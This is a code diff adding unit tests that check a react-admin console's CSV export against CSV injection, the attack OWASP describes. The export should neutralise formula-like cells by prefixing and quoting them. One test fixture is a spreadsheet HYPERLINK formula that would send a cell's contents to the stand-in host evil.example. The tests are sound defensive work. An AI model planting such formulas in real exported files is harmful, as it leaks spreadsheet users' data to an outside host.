@@ -1,7 +1,8 @@
 import type { FetchRelatedRecords } from 'react-admin';
 import { describe, expect, it } from 'vitest';
 import { EMPLOYEE_CSV_COLUMNS } from '../resources/employees/employee-list';
-import { csvRows, fetchReferences, OWNER_AGENCY_COLUMN, type CsvColumn } from './export';
+import Papa from 'papaparse';
+import { csvRows, csvText, fetchReferences, OWNER_AGENCY_COLUMN, toCsv, type CsvColumn } from './export';
 
 /** A dictionary translator: known keys in words, others their `_` default or the key itself. */
 const messages: Record<string, string> = {
@@ -100,5 +101,48 @@ describe('CSV export rows', () => {
       'Puskesmas Kertapati',
       'resources.employees.statuses.AKTIF',
     ]);
+  });
+});
+
+describe('CSV text (every CSV the console writes)', () => {
+  it('writes formula-like cells as text and quotes what needs quoting (OWASP CSV injection)', () => {
+    const csv = toCsv([
+      { Perihal: '=HYPERLINK("http://evil.example/?d="&A1,"Klik")', Nilai: -5 },
+      { Perihal: '+1', Nilai: 1 },
+      { Perihal: '-1', Nilai: 2 },
+      { Perihal: '@SUM(A1)', Nilai: 3 },
+      { Perihal: '\tx', Nilai: 4 },
+      { Perihal: '\rx', Nilai: 5 },
+      { Perihal: '  =1', Nilai: 6 },
+      { Perihal: '\uFF1D1', Nilai: 7 },
+      { Perihal: 'a, "b"\nc', Nilai: 8 },
+      { Perihal: 'nama@contoh.go.id', Nilai: 9 },
+    ]);
+    const rows = Papa.parse<string[]>(csv).data;
+    expect(rows.map((row) => row[0])).toEqual([
+      'Perihal',
+      `'=HYPERLINK("http://evil.example/?d="&A1,"Klik")`,
+      "'+1",
+      "'-1",
+      "'@SUM(A1)",
+      "'\tx",
+      "'\rx",
+      "'  =1",
+      "'\uFF1D1",
+      'a, "b"\nc',
+      'nama@contoh.go.id',
+    ]);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klik"")",-5`);
+  });
+
+  it('goes through the same helper from a list’s columns (csvText)', async () => {
+    const csv = await csvText(
+      'orgUnits',
+      [{ id: 'u1', code: '@cmd' }],
+      [{ source: 'code' }],
+      translate,
+      (async () => ({})) as FetchRelatedRecords,
+    );
+    expect(csv).toBe(`Kode\r\n"'@cmd"`);
   });
 });
